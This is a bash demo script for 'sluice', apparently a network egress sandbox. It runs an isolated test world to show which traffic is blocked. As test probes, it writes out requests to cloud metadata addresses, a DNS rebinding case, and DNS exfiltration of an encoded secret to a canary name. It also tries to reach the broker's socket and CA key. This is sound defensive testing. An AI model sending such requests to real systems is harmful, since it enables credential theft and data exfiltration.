#!/usr/bin/env bash
# SPDX-License-Identifier: MIT
# make demo: the main job on a self-contained test world. Builds a world
# (namespaces that reach nothing outside this machine), starts sluiced in its
# broker namespace, creates a sandbox, and shows what gets through and what
# does not, with the reasons; then tears everything down.
set -u
cd "$(dirname "$0")/.."
. tests/world/world.sh
. tests/world/broker.sh

BIN=${SLUICE_BIN:-$PWD/bin}
B=$(tput bold 2>/dev/null || true)
N=$(tput sgr0 2>/dev/null || true)
step() { printf '\n%s== %s%s\n' "$B" "$*" "$N"; }
# Every command shown is the one that runs, word for word (quoted as a
# shell would need it), so that a reader can paste it: `sluice` in them is
# the function printed at "Starting sluiced" (the CLI in the broker's
# namespace, with its control socket), and `X` runs a command in the
# sandbox with `sluice exec`. What follows a `#` says what the output shows
# of it, when it is trimmed.
show() {
	local w
	printf '$'
	for w in "$@"; do
		if [[ $w =~ ^[A-Za-z0-9_./:=@%+,-]+$ ]]; then printf ' %s' "$w"
		else printf " '%s'" "${w//\'/\'\\\'\'}"; fi
	done
	printf '\n'
}
# run CMD...: shows CMD, then runs it.
run() { show "$@"; "$@"; }

step "Building the test world: an 'internet' namespace (dnsmasq, echo servers, decoys) and a broker namespace"
world_up || exit 1
SB=$WORLD_PREFIX-demo
D=$WORLD_DIR
cleanup() {
	step "Teardown"
	sl delete "$SB" 2>&1 | sed 's/^/  /'
	broker_stop
	local p=$WORLD_PREFIX
	world_down
	echo "  world $p removed; its namespaces left: $(ip netns list | grep -c "^$p" || true)"
}
trap cleanup EXIT

broker_config "connect_timeout: 2s"
cp policies/demo-world.yaml "$D/policy.yaml"
# The API token: in the broker's environment only, never in the sandbox.
DEMO_API_TOKEN="demo-$(od -An -N12 -tx1 /dev/urandom | tr -d ' \n')"
export DEMO_API_TOKEN
step "The policy (policies/demo-world.yaml)"
sed 's/^/  /' "$D/policy.yaml"
run "$BIN/sluice" policy check "$D/policy.yaml"

step "Starting sluiced in the broker namespace (DEMO_API_TOKEN in its environment)"
broker_start || { echo "sluiced did not start"; exit 1; }
echo "  sluiced pid $BROKER_PID, control socket $BROKER_SOCK"
echo "  The commands below use these two functions (copy them to run the commands yourself):"
printf '  sluice() { ip netns exec %q %q --socket %q "$@"; }\n' "$WORLD_BRK" "$BIN/sluice" "$BROKER_SOCK"
printf '  X() { sluice exec --bind %q %q -- "$@"; }   # run a command in the sandbox\n' \
	"$BIN:$BIN:ro" "$SB"
sluice() { sl "$@"; }

step "Creating the sandbox"
run sluice create "$SB" --policy "$D/policy.yaml" || exit 1
run sluice list
# The contained runner sees only what is bound in: here sluice itself, for
# the probe (step 7).
X() { sl exec --bind "$BIN:$BIN:ro" "$SB" -- "$@"; }
# heads CMD...: shows and runs CMD in the sandbox (X), printing only the
# status lines and X-Sluice-Reason of the answer.
heads() {
	show X "$@"
	printf '  # the status line and X-Sluice-Reason of the answer:\n'
	X "$@" | grep -Ei '^(HTTP|x-sluice)' | sed 's/^/  /'
}
NOPROXY="env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy"

step "1. An allowed host: through the explicit proxy, and transparently (no proxy variables)"
run X curl -s -m 10 -o /dev/null -w '  HTTP %{http_code} via proxy\n' https://echo.world.test/hello
run X $NOPROXY curl -s -m 10 -o /dev/null -w '  HTTP %{http_code} transparent\n' \
	https://echo.world.test/hello

step "2. A host outside the policy"
heads curl -s -m 10 -o /dev/null -D - http://other.world.test/
echo "  # DNS: NXDOMAIN, never asked upstream:"
run X $NOPROXY getent ahostsv4 other.world.test || echo "  not resolved"

step "3. An address literal, and the cloud metadata address"
heads curl -s -m 10 -o /dev/null -D - http://11.0.2.10/
heads curl -s -m 10 -o /dev/null -D - http://169.254.169.254/latest/meta-data/
echo "  # bypassing the proxy: the transparent path answers"
heads $NOPROXY curl -s -m 5 -o /dev/null -D - http://169.254.169.254/

step "4. An allowed name that resolves into a private range (DNS rebinding)"
heads curl -s -m 10 -o /dev/null -D - http://rebind.world.test/

step "5. DNS exfiltration: a secret in a label under a name the attacker watches"
run X $NOPROXY getent ahostsv4 c2VjcmV0.canary.world.test || echo "  not resolved"
if grep -qi c2VjcmV0 "$D/dnsmasq.log"; then echo "  LEAK: the resolver saw it"; else
	echo "  the world's resolver saw no query for it"; fi

step "6. A credential the sandbox never sees"
show sluice env "$SB"
echo "  # what the sandbox holds; its DEMO_API_TOKEN line:"
PH=$(sl env "$SB" | sed -n 's/^DEMO_API_TOKEN=//p')
echo "  DEMO_API_TOKEN=$PH   (a placeholder; the broker's token is ${DEMO_API_TOKEN:0:9}...)"
show X sh -c 'curl -s -m 10 -H "Authorization: Bearer $DEMO_API_TOKEN" https://echo.world.test/api/repos'
# The echo origin answers with the headers it got (an origin that reflects
# the request): what it received is read from its own log, and what the
# sandbox got back is shown as the sandbox saw it.
echoed=$(X sh -c 'curl -s -m 10 -H "Authorization: Bearer $DEMO_API_TOKEN" https://echo.world.test/api/repos' |
	python3 -c 'import json,sys; print(dict(json.load(sys.stdin)["headers"]).get("Authorization",""))')
got=$(world_echo_log | grep -F '"path": "/api/repos"' | tail -n 1 |
	python3 -c 'import json,sys; print(dict(json.load(sys.stdin)["headers"]).get("Authorization",""))')
if [ "$got" = "Bearer $DEMO_API_TOKEN" ]; then
	echo "  the origin received: Bearer ${DEMO_API_TOKEN:0:9}... (the broker's token, put in over intercepted TLS)"
else
	echo "  UNEXPECTED: the origin received \`${got:0:20}...'"
fi
case $echoed in
*"$DEMO_API_TOKEN"*) echo "  LEAK: the origin's echo carried the token back to the sandbox" ;;
*) echo "  the origin echoed the header back; the sandbox read: ${echoed:0:24}... (redacted by the broker)" ;;
esac
echo "  # plain HTTP: no credential goes out in the clear"
heads sh -c 'curl -s -m 10 -o /dev/null -D - -H "Authorization: Bearer $DEMO_API_TOKEN" http://echo.world.test/api/repos'
echo "  # outside the credential's scope"
heads sh -c 'curl -s -m 10 -o /dev/null -D - -H "Authorization: Bearer $DEMO_API_TOKEN" https://echo.world.test/upload'
if grep -qF "$DEMO_API_TOKEN" "$D/audit.log" "$D/sluiced.log"; then echo "  LEAK: the token is in a log"; else
	echo "  the token appears in no log; the audit log names the credential only"; fi

step "7. The acceptance probe, inside the sandbox (every target it tries points into the test world)"
# Unprivileged ping sockets in the sandbox's own namespace, so that the ICMP
# check has something to send with.
run ip netns exec "$SB" sysctl -qw net.ipv4.ping_group_range="0 2147483647"
# Every check, the containment ones too: `sluice exec` contains the
# command (its own user, PID and mount namespaces; no broker files), so the
# broker's control socket, its PID and the sandbox CA's key (a secret of
# the broker's) must all be out of reach.
PROBE=(probe --timeout 3
	--expect-allow echo.world.test:443 --expect-allow echo.world.test:80
	--expect-deny other.world.test:443 --expect-deny other.world.test:80
	--canary canary.world.test --resolver 11.0.1.53 --resolver 11.0.3.1
	--public-addr 11.0.2.10 --public-addr6 2600:1::10
	--private-addr 10.0.0.5 --private-addr 172.16.0.5 --private-addr 192.168.1.5
	--private-addr 100.64.0.5 --private-addr6 fd00::5
	--metadata-addr 169.254.169.254 --metadata-addr6 fd00:ec2::254 --ecs-addr 169.254.170.2
	--alibaba-addr 100.100.100.200 --metadata-name metadata.world.test
	--udp-addr 11.0.3.1 --udp-port 9999 --dns-name other.world.test
	--doh-host other.world.test --doh-addr 11.0.2.20 --dot-addr 11.0.1.53:853
	--allowed-addr 11.0.2.10 --blocked-port 8080
	--redirect-url "http://echo.world.test/redirect?to=http://10.0.0.5/"
	--edge-suffix evil.world.test --edge-prefix evil- --gateway-ports 22,80,443,8080,9090
	--control-socket "$BROKER_SOCK" --broker-pid "$BROKER_PID"
	--secret-file "$D/state/keys/$(openssl x509 -in "$D/state/ca/$SB/ca.crt" -outform DER | sha256sum | cut -d" " -f1).key")
show X "$BIN/sluice" "${PROBE[@]}"
X "$BIN/sluice" "${PROBE[@]}" | sed 's/^/  /'
echo "  (exit status ${PIPESTATUS[0]}: 0 means every check passed or was skipped with its reason)"

step "What the sandbox did: sluice report (it sums the audit log, one JSON line per decision)"
show sluice report "$SB" "$D/audit.log"
sluice report "$SB" "$D/audit.log" | sed 's/^/  /'
echo "  ($(wc -l <"$D/audit.log") audit lines; \`sluice report --json\` for tools, \`sluice policy suggest\` for a policy)"

step "Decoys (private, metadata, loopback hosts inside the test world): hits"
hits=$(world_decoy_hits)
if [ -z "$hits" ]; then echo "  none"; else echo "$hits" | sed 's/^/  /'; fi
